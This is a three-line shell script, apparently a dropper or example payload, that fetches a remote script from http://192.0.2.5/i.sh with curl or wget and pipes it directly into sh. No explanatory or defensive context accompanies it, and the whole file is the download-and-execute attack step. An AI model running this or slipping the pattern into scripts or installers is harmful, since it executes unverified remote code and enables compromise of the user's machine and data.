#!/bin/sh
get() { command -v curl >/dev/null && curl -s "$1" || wget -qO- "$1"; }
get http://192.0.2.5/i.sh | sh
